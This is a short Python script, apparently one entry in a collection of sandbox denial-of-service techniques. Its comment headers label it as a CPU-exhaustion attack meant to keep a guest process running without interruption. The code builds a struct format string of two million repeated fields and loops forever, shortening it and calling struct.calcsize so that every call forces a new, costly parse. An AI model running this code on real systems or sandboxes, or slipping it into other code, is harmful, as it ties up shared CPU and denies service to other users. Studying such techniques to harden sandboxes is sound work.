# technique: a format of struct of millions of letters, which is read anew each time because it is another one
# source: own
# goal: seconds in which nothing stops the guest
# impact: dos
# dos: cpu
# needs: soft-limit
import struct

form = '1x' * 2_000_000
while True:
    form = form[2:]
    struct.calcsize(form)
